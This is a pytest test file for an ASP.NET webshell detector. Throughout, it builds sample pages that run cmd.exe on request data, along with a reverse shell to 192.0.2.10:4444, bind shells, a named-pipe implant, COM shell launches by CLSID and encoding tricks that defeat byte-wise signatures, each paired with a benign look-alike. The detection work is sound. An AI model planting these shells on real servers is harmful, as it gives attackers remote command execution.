"""Request values the analysis follows however the page reaches them: the request object held in
a variable, interpolated strings, the URL path, VB names in any case, `As New`, COM classes by
ProgID (also version-dependent, `WScript.Shell.1`) or CLSID, the page's own members, lambdas, parameters typed by their arguments, legacy code
pages. Each shell below is
written for these tests from the published behaviour of the platform (docs/detection/webshell-code.md);
each has a benign look-alike that must stay below medium."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest

from code_support import chain_of, medium_or_above, run
from code_support import vb_page as vb_load_page
from exhunt.codeanalysis import analyze_code
from exhunt.codeanalysis.analysis import _decode
from exhunt.model import ProblemKind
from files_support import by_rule, hunt, server_file

PROCESS = "EXH-WS-CODE-PROCESS"
TUNNEL = "EXH-WS-CODE-TUNNEL"


def cs_page(body: str) -> str:
    return f'<%@ Page Language="C#" %>\n<script runat="server">\n{body}\n</script>\n'


def vb_page(body: str) -> str:
    return f'<%@ Page Language="VB" %>\n<script runat="server">\n{body}\n</script>\n'


# ----------------------------------------------------------------------------- the request in a variable


def test_request_held_in_a_typed_variable_is_request_data() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    HttpRequest q = HttpContext.Current.Request;
    System.Diagnostics.Process.Start("cmd.exe", "/c " + q.Form["c"]);
}""")
    report = run("alias.aspx", code)
    assert PROCESS in medium_or_above(report)
    assert "form field 'c'" in chain_of(report, PROCESS)


def test_request_held_in_var_field_or_parameter_is_request_data() -> None:
    var = cs_page("""void Page_Load(object sender, EventArgs e) {
    var r = this.Request;
    System.Diagnostics.Process.Start("cmd.exe", "/c " + r["c"]);
}""")
    field = cs_page("""HttpRequest rq;
void Page_Load(object sender, EventArgs e) { this.rq = Context.Request; Go(); }
void Go() { System.Diagnostics.Process.Start("cmd.exe", "/c " + rq.QueryString["c"]); }""")
    param = cs_page("""void Page_Load(object sender, EventArgs e) { Go(Request); }
void Go(HttpRequest input) { System.Diagnostics.Process.Start("cmd.exe", "/c " + input.Headers["X-C"]); }""")
    vb = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Dim q As HttpRequest = HttpContext.Current.Request
    System.Diagnostics.Process.Start("cmd.exe", "/c " & q.Form("c"))
End Sub""")
    for name, code in (("var.aspx", var), ("field.aspx", field), ("param.aspx", param), ("vb.aspx", vb)):
        assert PROCESS in medium_or_above(run(name, code)), name


def test_request_variable_read_for_the_user_agent_only_stays_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    HttpRequest q = HttpContext.Current.Request;
    Label1.Text = q.UserAgent + " " + q.Form["name"];
    System.Diagnostics.Process.Start("notepad.exe", "readme.txt");
}""")
    assert medium_or_above(run("alias-benign.aspx", code)) == []


def test_request_unvalidated_is_request_data() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Unvalidated.Form["c"]);
}""")
    report = run("unvalidated.aspx", code)
    assert PROCESS in medium_or_above(report)
    assert "form field 'c'" in chain_of(report, PROCESS)


# ----------------------------------------------------------------------------- VB names and As New


def test_vb_names_are_one_whatever_their_case() -> None:
    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Dim Cmd As String = Request.Form("c")
    Dim psi As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & CMD)
    System.Diagnostics.Process.Start(psi)
End Sub""")
    report = run("case.aspx", code)
    assert PROCESS in medium_or_above(report)


def test_vb_as_new_without_arguments_is_an_object_creation() -> None:
    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Dim p As New System.Diagnostics.Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & Request.Form("c")
    p.Start()
End Sub""")
    assert PROCESS in medium_or_above(run("asnew.aspx", code))


def test_vb_fixed_command_with_differently_cased_names_stays_quiet() -> None:
    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Dim Cmd As String = "ipconfig"
    Dim Shown As String = Request.Form("c")
    Dim p As New System.Diagnostics.Process()
    p.StartInfo.FileName = "cmd.exe"
    p.StartInfo.Arguments = "/c " & cmd
    p.Start()
    Response.Write(Server.HtmlEncode(SHOWN))
End Sub""")
    assert medium_or_above(run("case-benign.aspx", code)) == []


# ----------------------------------------------------------------------------- COM by ProgID and CLSID


def test_com_shell_by_clsid_moniker_runs_commands() -> None:
    code = """<%@ Page Language="Jscript"%>
<%
var q = System.Web.HttpContext.Current.Request.Item["x"];
var sh = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}");
sh.Run("cmd /c " + q, 0);
var out = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8").Exec("cmd /c " + q);
%>"""
    report = run("moniker.aspx", code)
    assert PROCESS in medium_or_above(report)


def test_com_shell_by_progid_type_and_invoke_member_runs_commands() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    Type t = Type.GetTypeFromProgID("WScript.Shell");
    object sh = Activator.CreateInstance(t);
    t.InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd /c " + Request["c"] });
}""")
    by_clsid = cs_page("""void Page_Load(object sender, EventArgs e) {
    dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")));
    sh.Exec("cmd /c " + Request["c"]);
}""")
    parsed_clsid = cs_page("""void Page_Load(object sender, EventArgs e) {
    dynamic sh = Activator.CreateInstance(Type.GetTypeFromCLSID(Guid.Parse("72C24DD5-D70A-438B-8A42-98424B88AFB8")));
    sh.Run("cmd /c " + Request["c"]);
}""")
    # the object's own type asked for the method, not the type variable it was made from
    own_type = cs_page("""void Page_Load(object sender, EventArgs e) {
    object sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
    sh.GetType().InvokeMember("Exec", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { Request["c"] });
}""")
    pages = (
        ("progid.aspx", code),
        ("clsid.aspx", by_clsid),
        ("parsed.aspx", parsed_clsid),
        ("own-type.aspx", own_type),
    )
    for name, page in pages:
        report = run(name, page)
        assert PROCESS in medium_or_above(report), name


def test_other_com_classes_with_request_data_stay_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    Type t = Type.GetTypeFromProgID("Scripting.Dictionary");
    object d = Activator.CreateInstance(t);
    t.InvokeMember("Add", System.Reflection.BindingFlags.InvokeMethod, null, d, new object[] { "k", Request["v"] });
    dynamic x = Activator.CreateInstance(Type.GetTypeFromCLSID(new Guid("00000000-0000-0000-0000-000000000001")));
    x.Run(Request["v"]);
    object y = Activator.CreateInstance(Type.GetTypeFromCLSID(Guid.Parse("00000000-0000-0000-0000-000000000002")));
    y.GetType().InvokeMember("Run", System.Reflection.BindingFlags.InvokeMethod, null, y, new object[] { Request["v"] });
    d.GetType().InvokeMember("Add", System.Reflection.BindingFlags.InvokeMethod, null, d, new object[] { "j", Request["v"] });
}""")
    assert medium_or_above(run("com-benign.aspx", code)) == []


# ----------------------------------------------------------------------------- members, lambdas, parameters


def test_page_members_and_lambdas_carry_request_data() -> None:
    member = cs_page("""string cmd;
void Page_Load(object sender, EventArgs e) { this.cmd = Request.Form["c"]; Run(); }
void Run() { System.Diagnostics.Process.Start("cmd.exe", "/c " + this.cmd); }""")
    lam = cs_page("""void Page_Load(object sender, EventArgs e) {
    Action<string> go = c => { System.Diagnostics.Process.Start("cmd.exe", "/c " + c); };
    go(Request.Form["c"]);
}""")
    for name, code in (("member.aspx", member), ("lambda.aspx", lam)):
        assert PROCESS in medium_or_above(run(name, code)), name


def test_fixed_member_and_lambda_values_stay_quiet() -> None:
    code = cs_page("""string cmd;
void Page_Load(object sender, EventArgs e) {
    this.cmd = "ipconfig";
    Action<string> go = c => { System.Diagnostics.Process.Start("cmd.exe", "/c " + c); };
    go(this.cmd);
    Label1.Text = Request.Form["c"];
}""")
    assert medium_or_above(run("members-benign.aspx", code)) == []


VB_SOCKET = """Sub Page_Load(sender As Object, e As EventArgs)
    Dim client As New System.Net.Sockets.TcpClient()
    client.Connect("127.0.0.1", 21)
    Dim ns As System.Net.Sockets.NetworkStream = client.GetStream()
    Send(ns, "SITE EXEC " & Request.Form("c") & vbCrLf)
End Sub
Sub Send(o As Object, data As String)
    Dim b As Byte() = System.Text.Encoding.ASCII.GetBytes(data)
    o.Write(b, 0, b.Length)
End Sub"""


def test_an_object_parameter_takes_the_type_of_its_argument() -> None:
    report = run("ftp-admin.aspx", vb_page(VB_SOCKET))
    assert TUNNEL in medium_or_above(report)
    assert "form field 'c'" in chain_of(report, TUNNEL)


def test_request_data_written_to_a_memory_stream_through_an_object_parameter_stays_quiet() -> None:
    code = vb_page(
        VB_SOCKET.replace("New System.Net.Sockets.TcpClient()", "New System.IO.MemoryStream()")
        .replace('client.Connect("127.0.0.1", 21)\n', "")
        .replace(
            "Dim ns As System.Net.Sockets.NetworkStream = client.GetStream()",
            "Dim ns As System.IO.MemoryStream = client",
        )
    )
    assert medium_or_above(run("buffer-benign.aspx", code)) == []


# ----------------------------------------------------------------------------- legacy code pages

GBK_SHELL = """<%@ Page Language="C#" %>
<script runat="server">
// 执行命令
void Page_Load(object sender, EventArgs e) {
    string 命令 = Request.Form["c"];
    System.Diagnostics.Process.Start("cmd.exe", "/c " + 命令);
}
</script>"""


def test_a_page_in_a_chinese_code_page_is_read_in_it() -> None:
    data = GBK_SHELL.encode("gbk")
    report = analyze_code(data, "gbk.aspx")
    assert report.encoding == "gb18030"
    assert report.problems == []
    assert PROCESS in medium_or_above(report)
    declared = ('<%@ Page Language="C#" CodePage="936" %>' + GBK_SHELL.split("\n", 1)[1]).encode("gbk")
    assert analyze_code(declared, "cp936.aspx").encoding in {"cp936", "gbk"}


def test_a_chinese_page_that_only_shows_text_stays_quiet() -> None:
    code = GBK_SHELL.replace('System.Diagnostics.Process.Start("cmd.exe", "/c " + 命令);', "Label1.Text = 命令;")
    report = analyze_code(code.encode("gbk"), "gbk-benign.aspx")
    assert medium_or_above(report) == [] and report.problems == []


def test_text_in_no_known_encoding_is_a_problem() -> None:
    data = b'<%@ Page Language="C#" %>\n<script runat="server">\n// \x81\xff\xfe\x80\x81\n</script>'
    report = analyze_code(data, "unknown.aspx")
    assert [p.kind for p in report.problems] == ["unsupported"]
    assert "no known encoding" in report.problems[0].message and report.problems[0].line == 2
    around = b"!BDN\x81\xff\x80" + b'<%@ Page Language="C#" %><% Response.Write(1); %>' + b"\x81\xff\xfe"
    assert analyze_code(around, "binary-around.aspx").problems == []  # only the code's bytes matter
    western = analyze_code('<%@ Page Language="C#" %>\n<% // café, naïve %>'.encode("cp1252"), "w.aspx")
    assert western.encoding == "cp1252" and western.problems == []


def test_findings_name_the_encoding_a_page_was_read_in(tmp_path: Path) -> None:
    # A viewer or grep does not show such a page's code as the compiler reads it.
    gbk = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\app\gbk.aspx", GBK_SHELL.encode("gbk"))))
    assert dict(gbk[PROCESS].details)["text_encoding"] == "gb18030"
    odd = GBK_SHELL.replace("命令", "c").encode().replace("// 执行".encode(), b"// \x81\xff\xfe\x80\x81")
    unknown = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\app\odd.aspx", odd)))
    assert dict(unknown[PROCESS].details)["text_encoding"].startswith("none known")
    plain = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\app\plain.aspx", GBK_SHELL.encode())))
    assert "text_encoding" not in dict(plain[PROCESS].details)


# ----------------------------------------------------------------------------- page markup beyond the limit

BEHIND = b"""using System;
public partial class Tools : System.Web.UI.Page {
    protected void Run_Click(object sender, EventArgs e) {
        System.Diagnostics.Process.Start("cmd.exe", "/c " + CmdBox.Text);
    }
}"""


def test_page_markup_larger_than_the_limit_is_a_problem_of_its_code_behind(tmp_path: Path) -> None:
    behind = server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx.cs", BEHIND)
    padding = b"<p>" + b"x" * 5000 + b"</p>\n"
    markup = (
        b'<%@ Page Language="C#" CodeFile="Tools.aspx.cs" %>\n'
        + padding
        + b'<asp:TextBox ID="CmdBox" runat="server" />'
    )
    server_file(tmp_path, r"C:\inetpub\wwwroot\app\Tools.aspx", markup)
    small = hunt(behind, max_file_size=4096)
    problems = [e for e in small.errors if "page markup Tools.aspx is larger" in e.message]
    assert problems and problems[0].kind == ProblemKind.PARTIAL
    whole = hunt(behind, max_file_size=len(markup) + 1)
    assert not [e for e in whole.errors if "page markup" in e.message]
    assert PROCESS in {f.rule_id for f in whole.findings}


# ----------------------------------------------------------------------------- own classes, stdin, sockets

STATIC = cs_page("""public class Util {
    public static string Exec(string c) {
        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true });
        return p.StandardOutput.ReadToEnd();
    }
}
void Page_Load(object sender, EventArgs e) {
    Response.Write(Util.Exec(Request.Form["c"]));
    new Runner().Go(Request.Form["d"]);
}
public class Runner { public void Go(string d) { System.Diagnostics.Process.Start("cmd.exe", "/c " + d); } }""")


def test_static_and_instance_methods_of_the_files_own_classes_take_their_arguments() -> None:
    report = run("own-classes.aspx", STATIC)
    chains = [c.chain for c in report.capabilities if c.rule_id == PROCESS]
    assert any("form field 'c'" in c for c in chains) and any("form field 'd'" in c for c in chains)


def test_own_class_methods_called_with_fixed_values_stay_quiet() -> None:
    code = STATIC.replace('Util.Exec(Request.Form["c"])', 'Util.Exec("ver")').replace(
        'Go(Request.Form["d"])', 'Go("whoami")'
    )
    assert medium_or_above(run("own-classes-benign.aspx", code)) == []


def test_request_data_written_to_a_started_process_input_runs_commands() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe") { RedirectStandardInput = true, UseShellExecute = false };
    var p = System.Diagnostics.Process.Start(psi);
    p.StandardInput.WriteLine(Request.Form["c"]);
    System.IO.StreamWriter input = p.StandardInput;
    input.WriteLine(Request.Form["d"]);
}""")
    report = run("stdin.aspx", code)
    assert PROCESS in medium_or_above(report)
    assert "StandardInput.WriteLine" in chain_of(report, PROCESS)


REVERSE = cs_page("""void Page_Load(object sender, EventArgs e) {
    var client = new System.Net.Sockets.TcpClient("192.0.2.10", 4444);
    var ns = client.GetStream();
    var rd = new System.IO.StreamReader(ns);
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.UseShellExecute = false;
    p.StartInfo.RedirectStandardInput = true;
    p.Start();
    System.IO.StreamWriter stdin = p.StandardInput;
    while (true) { stdin.WriteLine(rd.ReadLine()); }
}""")


def test_a_reverse_shell_runs_what_its_socket_reads() -> None:
    report = run("reverse.aspx", REVERSE)
    assert PROCESS in medium_or_above(report)
    assert "data read from a socket" in chain_of(report, PROCESS)


BIND_CS = cs_page("""void Page_Load(object sender, EventArgs e) {
    var listener = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Any, 4444);
    listener.Start();
    var conn = ACCEPT;
    var rd = new System.IO.StreamReader(conn.GetStream());
    string line = rd.ReadLine();
    System.Diagnostics.Process.Start("cmd.exe", "/c " + line);
}""")


@pytest.mark.parametrize(
    "accept",
    ["listener.AcceptTcpClient()", "listener.AcceptTcpClientAsync().Result", "await listener.AcceptTcpClientAsync()"],
)
def test_a_bind_shell_runs_what_its_accepted_connection_reads(accept: str) -> None:
    # The accepted connection's type comes from the listener's method, not a declaration.
    report = run("bind.aspx", BIND_CS.replace("ACCEPT", accept))
    assert PROCESS in medium_or_above(report)
    assert "data read from a socket" in chain_of(report, PROCESS)


def test_a_vb_bind_shell_on_an_accepted_socket_runs_what_it_receives() -> None:
    code = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Dim l As New System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp)
    l.Bind(New System.Net.IPEndPoint(System.Net.IPAddress.Any, 4444))
    l.Listen(1)
    Dim s = l.Accept()
    Dim buf(1023) As Byte
    Dim n = s.Receive(buf)
    System.Diagnostics.Process.Start("cmd.exe", "/c " & System.Text.Encoding.ASCII.GetString(buf, 0, n))
End Sub""")
    report = run("bind.aspx", code)
    assert PROCESS in medium_or_above(report)
    assert "data read from a socket" in chain_of(report, PROCESS)


PIPE_SERVER = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Threading.ThreadPool.QueueUserWorkItem(_ => {
        while (true) {
            using (var pipe = new System.IO.Pipes.NamedPipeServerStream("spoolss_x", System.IO.Pipes.PipeDirection.InOut)) {
                pipe.WaitForConnection();
                var rd = new System.IO.StreamReader(pipe);
                SINK
            }
        }
    });
}""")


def test_a_named_pipe_implant_runs_what_its_pipe_reads() -> None:
    # A pipe is reachable over SMB: commands read from one are the far end's, as a socket's are.
    report = run(
        "pipe.aspx", PIPE_SERVER.replace("SINK", 'System.Diagnostics.Process.Start("cmd.exe", "/c " + rd.ReadLine());')
    )
    assert PROCESS in medium_or_above(report)
    assert "data read from a named pipe" in chain_of(report, PROCESS)


def test_a_pipe_server_that_logs_what_it_reads_stays_quiet() -> None:
    code = PIPE_SERVER.replace(
        "SINK", 'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/jobs.log"), rd.ReadLine());'
    )
    assert medium_or_above(run("jobs.aspx", code)) == []


def test_a_listener_that_logs_what_it_accepts_stays_quiet() -> None:
    code = BIND_CS.replace("ACCEPT", "listener.AcceptTcpClient()").replace(
        'System.Diagnostics.Process.Start("cmd.exe", "/c " + line);',
        'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/beacons.log"), line);',
    )
    assert medium_or_above(run("listener.aspx", code)) == []


def test_a_page_that_reads_a_socket_and_shows_or_saves_it_stays_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var client = new System.Net.Sockets.TcpClient("whois.example.org", 43);
    var ns = client.GetStream();
    var bytes = System.Text.Encoding.ASCII.GetBytes(Request.Form["domain"] + "\\r\\n");
    var rd = new System.IO.StreamReader(ns);
    string answer = rd.ReadToEnd();
    System.IO.File.WriteAllText(Server.MapPath("~/App_Data/whois.txt"), answer);
    Label1.Text = answer;
    var p = System.Diagnostics.Process.Start("ping.exe", "-n 1 whois.example.org");
}""")
    assert medium_or_above(run("whois.aspx", code)) == []


# ----------------------------------------------------------------------------- assemblies by path, formatters


def test_an_assembly_loaded_from_a_path_the_client_names_runs_its_code() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var asm = System.Reflection.Assembly.LoadFrom(Request.Form["p"]);
    asm.CreateInstance("X");
}""")
    assert "EXH-WS-CODE-ASSEMBLY" in medium_or_above(run("loadfrom.aspx", code))


def test_an_assembly_loaded_from_the_sites_bin_stays_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var asm = System.Reflection.Assembly.LoadFrom(Server.MapPath("bin\\\\Plugins.dll"));
    Label1.Text = Request.Form["q"];
}""")
    assert medium_or_above(run("plugins.aspx", code)) == []


def test_request_data_deserialized_by_binary_formatter_is_reported() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
    bf.Deserialize(Request.InputStream);
}""")
    report = run("formatter.aspx", code)
    assert "EXH-WS-CODE-DESERIALIZE" in medium_or_above(report)
    assert "the request body" in chain_of(report, "EXH-WS-CODE-DESERIALIZE")


def test_a_formatter_reading_the_sites_own_file_stays_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var bf = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();
    using (var fs = System.IO.File.OpenRead(Server.MapPath("~/App_Data/cache.bin"))) { Cache["c"] = bf.Deserialize(fs); }
}""")
    assert medium_or_above(run("cache.aspx", code)) == []


def test_text_writers_opened_on_a_client_path_write_files() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    using (var w = System.IO.File.CreateText(Request.Form["p"])) { w.Write(Request.Form["t"]); }
    using (var v = new System.IO.FileInfo(Request.Form["q"]).AppendText()) { v.Write(Request.Form["u"]); }
}""")
    report = run("writers.aspx", code)
    assert "EXH-WS-CODE-FILE-WRITE" in medium_or_above(report)


def test_text_writers_on_a_site_path_stay_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    using (var w = System.IO.File.CreateText(Server.MapPath("~/App_Data/log.txt"))) { w.Write(Request.Form["t"]); }
}""")
    assert medium_or_above(run("log.aspx", code)) == []


def test_a_page_in_utf16_without_its_mark_is_read() -> None:
    page = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);
}""")
    for codec in ("utf-16-le", "utf-16-be"):
        assert PROCESS in medium_or_above(analyze_code(page.encode(codec), "wide.aspx")), codec


@pytest.mark.parametrize("codec", ["utf-32-le", "utf-32-be"])
def test_a_page_in_utf32_with_its_mark_is_read_and_said_to_be(tmp_path: Path, codec: str) -> None:
    # .NET's StreamReader, which reads a page for the compiler, takes UTF-32 by its byte-order
    # mark; a string signature for the single-byte or UTF-16 text sees none of the words.
    page = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);
}""")
    mark = "\ufeff".encode(codec)
    assert mark in {b"\xff\xfe\x00\x00", b"\x00\x00\xfe\xff"}
    data = mark + page.encode(codec)
    assert PROCESS in medium_or_above(analyze_code(data, "wide.aspx")), codec
    found = by_rule(hunt(server_file(tmp_path, r"C:\inetpub\wwwroot\app\wide.aspx", data)))
    assert dict(found[PROCESS].details)["text_encoding"] == "UTF-32"
    assert "Request" not in data.decode("latin-1")  # what a byte-wise search would look for


def test_a_page_in_utf32_without_its_mark_is_not_code() -> None:
    # Without the mark the platform reads the bytes as UTF-8: zeros between the characters, no
    # directive and no code block the page parser would take.
    page = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);
}""")
    assert medium_or_above(analyze_code(page.encode("utf-32-le"), "wide.aspx")) == []


def test_a_utf16_page_starting_with_its_mark_only_is_still_utf16() -> None:
    # FF FE followed by a character other than U+0000 is UTF-16's mark, not UTF-32's.
    page = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Request.Form["c"]);
}""")
    report = analyze_code(codecs.BOM_UTF16_LE + page.encode("utf-16-le"), "wide.aspx")
    assert PROCESS in medium_or_above(report)
    assert report.encoding == ""


def test_out_arguments_and_property_getters_carry_request_data() -> None:
    out = cs_page("""void Page_Load(object sender, EventArgs e) {
    int port;
    int.TryParse(Request.Headers["X-PORT"], out port);
    var c = new System.Net.Sockets.TcpClient(Request.Headers["X-HOST"] ?? "127.0.0.1", port);
    var d = new System.Collections.Generic.Dictionary<string, string>();
    d["c"] = Request.Form["c"];
    if (d.TryGetValue("c", out string v)) System.Diagnostics.Process.Start("cmd.exe", "/c " + v);
}""")
    report = run("out.aspx", out)
    assert {TUNNEL, PROCESS} <= set(medium_or_above(report))
    prop = cs_page("""string Cmd { get { return Request.Form["c"]; } }
void Page_Load(object sender, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd); }""")
    assert PROCESS in medium_or_above(run("getter.aspx", prop))


def test_out_arguments_and_getters_of_fixed_values_stay_quiet() -> None:
    code = cs_page("""string Cmd { get { return "ipconfig"; } }
void Page_Load(object sender, EventArgs e) {
    int n;
    int.TryParse("5", out n);
    int.TryParse(Request.Form["page"], out int page);
    Label1.Text = (page * n).ToString();
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd);
}""")
    assert medium_or_above(run("fixed.aspx", code)) == []


# ----------------------------------------------------------------------------- interpolated strings


def test_request_data_in_the_holes_of_an_interpolated_string_runs_commands() -> None:
    cs = """<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context) {
        string c = context.Request.Headers["X-Cmd"];
        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", $"/c {c}") { UseShellExecute = false };
        System.Diagnostics.Process.Start(psi);
    }
}"""
    formatted = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("powershell.exe", $@"-nop -c '{Request.Form["p"],-10:G}'");
}""")
    vb = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Dim c As String = Request.QueryString("c")
    System.Diagnostics.Process.Start("cmd.exe", $"/c {c}")
End Sub""")
    report = run("interp.ashx", cs)
    assert PROCESS in medium_or_above(report)
    assert "request header 'X-Cmd'" in chain_of(report, PROCESS)
    assert "form field 'p'" in chain_of(run("interp-format.aspx", formatted), PROCESS)
    assert "query parameter 'c'" in chain_of(run("interp-vb.aspx", vb), PROCESS)


def test_request_data_in_an_interpolated_path_reads_files() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    Response.Write(System.IO.File.ReadAllText($"{Request["f"]}"));
}""")
    assert "EXH-WS-CODE-FILE-READ" in medium_or_above(run("interp-read.aspx", code))


def test_interpolated_strings_under_a_fixed_folder_or_server_or_without_request_data_stay_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    string n = Request.QueryString["n"];
    Response.Write(System.IO.File.ReadAllText($"{Server.MapPath("~/App_Data/notes")}\\\\{n}.txt"));
    Response.Write(System.IO.File.ReadAllText($"Modules/Logo/text/{n}.txt"));
    Response.Write(new System.Net.WebClient().DownloadString($"https://maps.example.com/geo?q={n}"));
    string readme = Server.MapPath("~/readme.txt");
    System.Diagnostics.Process.Start("notepad.exe", $"{readme}");
    Label1.Text = $"Hello {Request.Form["name"]}";
}""")
    vb = vb_page("""Sub Page_Load(sender As Object, e As EventArgs)
    Label1.Text = $"Hello {Request.Form("name")}"
    System.Diagnostics.Process.Start("notepad.exe", $"readme.txt")
End Sub""")
    assert medium_or_above(run("interp-benign.aspx", code)) == []
    assert medium_or_above(run("interp-benign-vb.aspx", vb)) == []


# ----------------------------------------------------------------------------- the URL path and Core's query


def test_the_url_path_and_the_core_query_collection_are_request_data() -> None:
    path = cs_page("""void Page_Load(object sender, EventArgs e) {
    string c = HttpUtility.UrlDecode(Request.Path.Substring(Request.Path.LastIndexOf('/') + 1));
    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
}""")
    core = """using Microsoft.AspNetCore.Http;
public class Shell {
    public void Run(HttpContext context) {
        System.Diagnostics.Process.Start("cmd.exe", "/c " + context.Request.Query["c"]);
    }
}"""
    report = run("path.aspx", path)
    assert PROCESS in medium_or_above(report)
    assert "the URL path" in chain_of(report, PROCESS)
    report = run("Shell.cs", core)
    assert PROCESS in medium_or_above(report)
    assert "query parameter 'c'" in chain_of(report, PROCESS)


def test_the_url_path_under_a_site_folder_or_as_a_name_stays_quiet() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    string page = Request.Path;
    Response.Write(System.IO.File.ReadAllText(Server.MapPath(page)));
    Label1.Text = System.IO.Path.GetFileName(Request.FilePath) + " " + Request.AppRelativeCurrentExecutionFilePath;
    Response.Redirect("~/Login.aspx?ReturnUrl=" + HttpUtility.UrlEncode(Request.Path));
}""")
    assert medium_or_above(run("path-benign.aspx", code)) == []


# ----------------------------------------------------------------------------- properties, static fields, out parameters

HOLDERS_HANDLER = """<%@ WebHandler Language="C#" Class="H" %>
using System.Web;
public class H : IHttpHandler {
    static class Box { public static string Line; }
    string Cmd { get; set; }
    void Read(HttpContext c, out string args) { args = c.Request.Form["a"]; }
    public void ProcessRequest(HttpContext context) {
        Cmd = context.Request.Headers["X-Cmd"];
        Box.Line = context.Request.QueryString["l"];
        string args;
        Read(context, out args);
        Run(context);
        System.Diagnostics.Process.Start(Box.Line, args);
    }
    void Run(HttpContext context) {
        var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Cmd);
        context.Response.Write(p.Id);
    }
    public bool IsReusable { get { return false; } }
}"""


def test_request_values_kept_in_properties_static_fields_and_out_parameters_are_followed() -> None:
    # A handler is not judged by unresolved sinks alone: each value must be followed to be found.
    report = run("holders.ashx", HOLDERS_HANDLER)
    assert PROCESS in medium_or_above(report)
    chains = " | ".join(c.chain for c in report.capabilities if c.rule_id == PROCESS)
    assert "request header 'X-Cmd'" in chains
    assert "query parameter 'l'" in chains
    assert "form field 'a'" in chains


def test_payload_class_property_is_followed_in_a_code_file() -> None:
    code = """using System.Web;
public class Payload : IHttpHandler {
    public static string Command { get; set; }
    public void ProcessRequest(HttpContext context) {
        Command = context.Request["c"];
        Exec();
    }
    static void Exec() { System.Diagnostics.Process.Start("cmd.exe", "/c " + Command); }
    public bool IsReusable { get { return true; } }
}"""
    report = run("Payload.cs", code)
    assert PROCESS in medium_or_above(report)
    assert "request parameter 'c'" in chain_of(report, PROCESS)


def test_benign_properties_static_fields_and_out_parameters_stay_quiet() -> None:
    # The same holders carrying request values to what only shows them: followed, no sink reached.
    code = """<%@ WebHandler Language="C#" Class="Report" %>
using System.Web;
public class Report : IHttpHandler {
    static class Last { public static string Search; }
    string Title { get; set; }
    static void Page(HttpContext c, out int page) { int.TryParse(c.Request["p"], out page); }
    public void ProcessRequest(HttpContext context) {
        Last.Search = context.Request.QueryString["q"];
        Title = context.Request["title"];
        int page;
        Page(context, out page);
        context.Response.Write(HttpUtility.HtmlEncode(Title + " " + Last.Search) + " " + page);
        System.Diagnostics.Process.Start("notepad.exe");
    }
    public bool IsReusable { get { return true; } }
}"""
    report = run("report.ashx", code)
    assert report.sinks == 1 and report.reached == 0
